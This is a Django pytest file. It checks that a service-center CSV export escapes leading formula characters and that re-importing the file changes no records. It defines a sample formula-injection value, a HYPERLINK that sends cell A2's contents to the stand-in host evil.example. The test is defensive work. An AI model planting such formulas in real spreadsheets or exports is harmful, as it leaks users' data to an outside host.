"""The centers CSV export is formula-neutral and still imports back unchanged."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission

from centers.models import ServiceCenter, StaffMembership
from tests.factories.centers import ServiceCenterFactory
from tests.factories.users import StaffUserFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A2,"open")'


def test_centers_export_neutralises_formulas_and_round_trips(client):
    a = ServiceCenterFactory(code="SC-A", name=EVIL, phone="+86 21 5555 0000", address="@home")
    ServiceCenterFactory(code="SC-B")
    user = StaffUserFactory()
    user.user_permissions.set(Permission.objects.filter(content_type__app_label="centers"))
    user.save()
    StaffMembership.objects.create(user=user, center=None, role="hq")
    client.force_login(user)
    r = client.post(
        "/admin/centers/servicecenter/",
        {"action": "export_csv", "_selected_action": list(ServiceCenter.objects.values_list("pk", flat=True))},
    )
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    row = next(x for x in rows if x["code"] == "SC-A")
    assert (row["name"], row["phone"], row["address"]) == ("'" + EVIL, "'+86 21 5555 0000", "'@home")
    for cell in (c for x in rows for c in x.values()):
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    # Importing the export back changes nothing: the apostrophes are read as the escape they are.
    r = client.post("/admin/centers/servicecenter/import-csv/", {"file": io.BytesIO(r.content)}, follow=True)
    assert "0 created, 0 updated, 2 unchanged" in r.content.decode()
    a.refresh_from_db()
    assert (a.name, a.phone, a.address) == (EVIL, "+86 21 5555 0000", "@home")
